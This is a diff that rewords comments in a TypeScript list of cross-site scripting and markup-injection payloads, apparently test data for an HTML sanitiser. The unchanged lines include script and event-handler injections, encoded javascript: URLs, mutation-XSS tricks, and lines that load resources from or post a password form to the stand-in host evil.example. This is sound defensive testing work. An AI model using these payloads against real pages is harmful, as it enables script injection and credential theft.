@@ -1,6 +1,6 @@
 /**
- * Markup that acts where nobody cleans it: the classes of OWASP's filter evasion, of DOMPurify's tests and of html5sec.
- * Each tries to open a dialog, to ask evil.example for something, or to take the page or its names over.
+ * Markup that does harm unless sanitised: the classes of OWASP's filter evasion, of DOMPurify's tests and of html5sec.
+ * Each tries to open a dialog, to request something from evil.example, or to take over the page or its names.
  */
 export const MARKUP_ATTACKS: readonly string[] = [
   '<script>alert(1)</script>',
@@ -100,7 +100,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   '<div><template shadowrootmode=open><style>:host{background:url(//evil.example/s)}</style></template></div>',
   '<b><p><b><svg><b></p><style><a title="</style><img src=x onerror=alert(1)>"></b></svg>',
   '<form id=f><div></form><form><math><annotation-xml><form><style><img title="</style><img src onerror=alert(1)>">',
-  // Elements that change their kind by the namespace they stand in.
+  // Elements that change their kind by namespace.
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
   '<math><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></math>',
   '<math><mi><malignmark><img src=x onerror=alert(1)></malignmark></mi></math>',
@@ -117,7 +117,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   '<svg><feImage href="//evil.example/a.svg"/></svg>',
   '<svg><style>@import "//evil.example/y.css";</style></svg>',
   '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
-  // Attributes whose ends are read in more than one way.
+  // Attributes whose end is ambiguous.
   '<p title="x" / onclick=alert(1) "">x</p>',
   '<img alt=`x src=/images/a.svg` onerror=alert(1)>',
   '<img src="/images/a.svg" alt="&quot; onerror=alert(1) x=&quot;">',
@@ -135,7 +135,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   '<\u0000script>alert(1)</script>',
   '<script>alert(1)',
   '<img src="x` `<script>alert(1)</script>"` `>',
-  // Events nobody has to press for.
+  // Events that fire without interaction.
   '<p style="animation:x 1s" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
   '<p style="transition:outline 1s" ontransitionend=alert(1) tabindex=0 autofocus>x</p>',
   '<svg><circle r=9><animate attributeName=r dur=1ms onend=alert(1) to=1></circle></svg>',
@@ -169,7 +169,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   '<link rel="modulepreload" href="//evil.example/m.js">',
   '<link rel="icon" href="//evil.example/i.ico">',
   '<link rel="manifest" href="//evil.example/m.json">',
-  // Schemes behind encodings.
+  // Encoded URL schemes.
   '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>',
   '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
   '<a href="&#0000106avascript:alert(1)">x</a>',
@@ -187,7 +187,7 @@ export const MARKUP_ATTACKS: readonly string[] = [
   '%3Cimg%20src=x%20onerror=alert(1)%3E',
   '&lt;img src=x onerror=alert(1)&gt;',
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
-  // What takes the page's own words, names or looks to another place.
+  // What hijacks the page's own text, names or appearance.
   '<a href="https://evil.example/" target="_blank" rel="noreferrer opener">x</a>',
   '<area href="javascript:alert(1)" shape=default><map name=m><area href="//evil.example" shape=default></map>',
   '<form action="https://evil.example/" id=login><input name=password autofocus><button>x</button></form>',
